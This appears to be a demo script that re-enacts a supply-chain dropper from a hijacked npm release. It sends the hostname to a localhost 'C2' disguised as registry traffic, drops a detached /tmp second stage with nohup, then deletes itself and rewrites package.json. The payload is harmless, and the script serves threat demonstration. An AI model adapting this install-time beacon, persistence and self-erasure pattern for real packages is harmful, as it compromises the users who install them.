// setup.js — what the hijacked axios release's dependency did at install
// time (docs/THREATS.md), with a harmless payload: phone home over plain HTTP,
// drop a second stage into /tmp and start it with nohup so it outlives the
// install, then delete itself and leave a clean package.json behind.
// The C2 address is in c2.port next to it (run-demo.sh writes it in).
"use strict";
const fs = require("fs");
const path = require("path");
const http = require("http");
const { spawn } = require("child_process");

const here = __dirname;
const port = Number(fs.readFileSync(path.join(here, "c2.port"), "utf8").trim());

function dropSecondStage() {
  const stage = [
    "import os, time",
    "open('/tmp/ld.pid', 'w').write(str(os.getpid()))",
    "# a real one beacons and waits for commands; this one only waits,",
    "# and gives up after two minutes so a forgotten demo leaves nothing",
    "time.sleep(120)",
    "",
  ].join("\n");
  try {
    fs.writeFileSync("/tmp/ld.py", stage);
    spawn("sh", ["-c", "nohup python3 /tmp/ld.py >/dev/null 2>&1 &"], { stdio: "ignore", detached: true }).unref();
  } catch (e) {
    // a dropper stays quiet when something does not work
  }
}

function hide() {
  try {
    fs.unlinkSync(path.join(here, "setup.js"));
    fs.writeFileSync(path.join(here, "package.json"),
      JSON.stringify({ name: "demo-dropper", version: "1.0.0" }, null, 2) + "\n");
  } catch (e) {}
}

// Body shaped like registry traffic, as the real one was.
const body = JSON.stringify({ name: "demo-dropper", "dist-tags": { latest: "1.0.0" }, host: require("os").hostname() });
const req = http.request({ host: "127.0.0.1", port, method: "POST", path: "/6202033", timeout: 2000,
  headers: { "content-type": "application/json", "user-agent": "npm/11.19.1 node/v20" } }, (res) => {
  res.resume();
  res.on("end", () => { dropSecondStage(); hide(); });
});
req.on("timeout", () => req.destroy());
req.on("error", () => { dropSecondStage(); hide(); });
req.end(body);
